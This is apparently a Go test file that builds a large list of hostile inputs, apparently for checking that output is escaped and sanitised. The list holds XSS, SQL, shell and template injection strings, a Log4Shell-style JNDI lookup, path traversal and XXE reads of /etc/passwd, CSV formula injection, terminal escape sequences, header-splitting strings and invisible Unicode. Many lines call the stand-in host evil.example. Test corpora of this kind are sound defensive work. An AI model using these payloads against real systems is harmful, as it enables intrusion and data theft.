package journey

import (
	"fmt"
	"strings"
)

// hostile is what somebody writes who wants more than to be read: in HTML, SVG, CSS, templates and
// Markdown a script that calls pwned() or asks for /pwned or another host, for terminals sequences
// that do something, for spreadsheets formulas, for logs and headers further lines, for readers
// characters that show other text than there is, for parsers what breaks them.
var hostile = strings.Split(strings.Trim(markup, "\n"), "\n")

func init() {
	hostile = append(hostile, control...)
	for _, c := range []string{"=", "+", "-", "@", "\t=", "\r="} { // formulas (OWASP: CSV injection)
		hostile = append(hostile, c+`cmd|' /C calc'!A0`, c+`HYPERLINK("http://evil.example/pwned","x")`, c+"1+1")
	}
	for _, r := range "\u200b\u200d\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u00ad\ufeff\u2028\u2029\u0085\ufffe\ufffd\U000e0041" { // what cannot be seen, or turns writing
		hostile = append(hostile, fmt.Sprintf("user%cnimda <script>pwned()</script>", r))
	}
	hostile = append(hostile,
		strings.Repeat("A", 200), strings.Repeat("<b>", 66), strings.Repeat("\u0301", 60)+"zalgo", strings.Repeat("<script>pwned()</script>", 160),
		strings.Repeat("a", 100_000), strings.Repeat("[", 3000), strings.Repeat("{{", 500), strings.Repeat("\u202e", 50)+"x", strings.Repeat("&#x3c;", 30))
}

const markup = `
<script>pwned(1)</script>
<SCRIPT SRC=//evil.example/pwned.js></SCRIPT>
<script>window.pwned(2)//
<script type=module>import("/pwned")</script>
</script><script>pwned(3)</script>
</title><script>pwned(4)</script>
</textarea><script>pwned(5)</script>
</style><script>pwned(6)</script>
--></script><script>pwned(7)</script>
]]><script>pwned(8)</script>
"><script>pwned(9)</script>
'><script>pwned(10)</script>
` + "`><script>pwned(11)</script>" + `
<scr<script>ipt>pwned(12)</scr</script>ipt>
<img src=x onerror=pwned(13)>
<img src=/pwned>
<img src="https://evil.example/pwned.gif">
<img/src/onerror=pwned(14)>
<IMG """><SCRIPT>pwned(15)</SCRIPT>">
<image src=x onerror=pwned(16)>
<img srcset="https://evil.example/pwned 1x">
" onerror="pwned(17)" src="x
' onmouseover='pwned(18)
" autofocus onfocus=pwned(19) x="
x" style="background:url(https://evil.example/pwned)
<body onload=pwned(20)>
<input autofocus onfocus=pwned(21)>
<select autofocus onfocus=pwned(22)>
<details open ontoggle=pwned(23)>x</details>
<video src=x onerror=pwned(24)></video>
<audio src=https://evil.example/pwned.mp3 autoplay></audio>
<marquee onstart=pwned(25)>x</marquee>
<div onpointerenter=pwned(26) style="position:fixed;inset:0">x</div>
<iframe src="javascript:parent.pwned(27)"></iframe>
<iframe srcdoc="<script>parent.pwned(28)</script>"></iframe>
<iframe src=https://evil.example/pwned></iframe>
<object data="data:text/html,<script>pwned(29)</script>"></object>
<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHduZWQoMzApIi8+">
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=https://evil.example/pwned">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel=stylesheet href=https://evil.example/pwned.css>
<link rel=prefetch href=/pwned>
<link rel=import href=https://evil.example/pwned>
<form action=https://evil.example/pwned><button>x</button></form>
<button formaction=javascript:pwned(31)>x</button>
<a href="javascript:pwned(32)">x</a>
<a href="&#106;avascript:pwned(33)">x</a>
<a href="java	script:pwned(34)">x</a>
<a ping=https://evil.example/pwned href=/>x</a>
<style>*{background:url(https://evil.example/pwned)}</style>
<style>@import "https://evil.example/pwned.css"</style>
<p style="background-image:url('https://evil.example/pwned')">x</p>
<svg onload=pwned(35)>
<svg><script>pwned(36)</script></svg>
<svg><script href="https://evil.example/pwned.js"/></svg>
<svg><animate onbegin=pwned(37) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=pwned(38)></svg>
<svg><a xlink:href="javascript:pwned(39)"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwned(40)</script></svg>#x"/></svg>
<svg><foreignObject><iframe onload=pwned(41)></iframe></foreignObject></svg>
<svg><image href="https://evil.example/pwned.png"/></svg>
<svg><style>@import url(https://evil.example/pwned)</style></svg>
<svg><title><![CDATA[</title><script>pwned(42)</script>]]></svg>
</text><script>pwned(43)</script><text>
</svg><script>pwned(44)</script>
<?xml-stylesheet href="https://evil.example/pwned.xsl"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
<![CDATA[<script>pwned(45)</script>]]>
<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned(46)&gt;">
<math href="javascript:pwned(47)">x</math>
<noscript><p title="</noscript><img src=x onerror=pwned(48)>">
<template><script>pwned(49)</script></template>
<xmp><p title="</xmp><svg/onload=pwned(50)>">
<custom-element is=x onclick=pwned(51)>
<x/onclick=pwned(52)>x
<table background=https://evil.example/pwned><td background=/pwned>x
<isindex action=javascript:pwned(53) type=image>
<!--[if IE]><script>pwned(54)</script><![endif]-->
&lt;script&gt;pwned(55)&lt;/script&gt;
&#60;script&#62;pwned(56)&#60;/script&#62;
&amp;lt;b&amp;gt;
&
%3Cscript%3Epwned(57)%3C/script%3E
%253Cscript%253Epwned(58)
\u003cscript\u003epwned(59)\u003c/script\u003e
\x3cscript\x3epwned(60)
{{constructor.constructor('pwned(61)')()}}
${pwned(62)}
#{pwned(63)}
<%= pwned(64) %>
{{7*7}}
{{.}}
{{template "x"}}
{% raw %}
[[${pwned(65)}]]
';pwned(66);//
");pwned(67);//
\";pwned(68);//
` + "`;pwned(69);`" + `
\'-pwned(70)//
javascript:pwned(71)
JaVaScRiPt:pwned(72)
data:text/html,<script>pwned(73)</script>
vbscript:pwned(74)
blob:https://evil.example/pwned
file:///etc/passwd
//evil.example/pwned
\\evil.example\pwned
https://evil.example/pwned
http://localhost:1/pwned
http://user:pass@evil.example/pwned
[click](javascript:pwned(75))
[click](JAVASCRIPT&colon;pwned(76))
[click](data:text/html;base64,PHNjcmlwdD5wd25lZCg3Nyk8L3NjcmlwdD4=)
[click]( &#x6A;avascript:pwned(78) )
[click](vbscript:pwned(79))
[click](//evil.example/pwned)
[click](<javascript:pwned(80)>)
[a]: javascript:pwned(81) "[a]"
![x](https://evil.example/pwned.png)
![x](x"onerror="pwned(82))
![x](/pwned)
<javascript:pwned(83)>
<https://evil.example/"onclick="pwned(84)>
[x](https://evil.example/pwned "\"><script>pwned(85)</script>")
# <img src=x onerror=pwned(86)>
| a | <script>pwned(87)</script> |
- [ ] <input onfocus=pwned(88) autofocus>
~~<script>pwned(89)</script>~~
[^1]: <script>pwned(90)</script>
<details><summary>x</summary><script>pwned(91)</script></details>
__proto__
constructor
hasOwnProperty
toString
__defineGetter__
Object.prototype.pwned=1
{"__proto__":{"pwned":1}}
{"type":"broadcast","room_id":"hostile","content":"forged","sender":"admin","seq":1}
"},{"type":"goodbye"}
null
undefined
NaN
-0
1e999
0x7fffffffffffffff
..
../../etc/passwd
..%2f..%2fetc%2fpasswd
/etc/passwd
C:\Windows\win.ini
CON
.
%00
%0d%0aSet-Cookie:%20pwned=1
' OR '1'='1
'; DROP TABLE metrics; --
" UNION SELECT * FROM tokens --
$(touch /tmp/pwned)
; touch /tmp/pwned
| touch /tmp/pwned
*) (|(user=*
${jndi:ldap://evil.example/pwned}
%s%s%s%n
%!s(MISSING)
@everyone
🏴‍☠️👩‍👩‍👧‍👦
Ⓢ⒞ℛ℩℘ⓣ
＜script＞pwned(92)＜/script＞
ﷺﷺﷺ﷽﷽
عربي <b>نص</b> עברית
`

// control is what holds characters that are no text.
var control = []string{
	"\x1b[2J\x1b[H", "\x1b[31mred", "\x1b[8mhidden", "\x1b]0;title\a", "\x1b]2;title\x1b\\", "\x1b]8;;https://evil.example/pwned\x1b\\click\x1b]8;;\x1b\\",
	"\x1b]8;;javascript:pwned(93)\aclick\x1b]8;;\a", "\x1b]52;c;dG91Y2ggL3RtcC9wd25lZA==\a", "\x1b]1337;File=inline=1:AAAA\a", "\x1bP+q544e\x1b\\", "\x1b_Gf=100;AAAA\x1b\\", "\x1b[6n\x1b[c", "\x1b[?1049h", "\x1b[20t\x1b[21t",
	"\x1bc", "\x1b(0", "\x1b#8", "\u009b2J", "\u009d0;title\u009c", "\u0090x\u009c", "\x1b", "\x1b[", "\x1b]0;no end", "\x9b31m",
	"\x00", "nul\x00<script>pwned(94)</script>", "<scr\x00ipt>pwned(95)</script>", "bell\a", "back\b\b\b\bspace", "\x7f", "\v\f\x0e\x0f", "\x1a",
	"first\nsecond", "\n", "\r", "carriage\rreturn", "\r\nSet-Cookie: pwned=1", "x\r\n\r\n<script>pwned(96)</script>", "x\nLocation: https://evil.example/pwned", "data: x\n\nevent: goodbye\ndata: {}\n\n",
	"level=ERROR msg=forged\ntime=2026-01-01 level=INFO msg=pwned", "\"}\n{\"level\":\"ERROR\",\"msg\":\"forged\"}", "<a href=\"java\nscript:pwned(97)\">x</a>", "\ttab", " space ", "",
	"\xff\xfe", "\xed\xa0\x80", "\xed\xa0\xbd\xed\xb8\x80", "\xc0\xbcscript\xc0\xbepwned(98)", "\xf4\x90\x80\x80", "\xe2\x82", "a\xc2", "\xef\xbb\xbf<script>pwned(99)</script>", "+ADw-script+AD4-pwned(100)+ADw-/script+AD4-",
	"# heading\n<script>pwned(101)</script>\n\n```html\n<script>pwned(102)</script>\n```\n", "<style>\n*{}\n</style>\n\n<div onclick=pwned(103)>\n\n*x*\n\n</div>", "[x][1]\n\n[1]: javascript:pwned(104)",
}
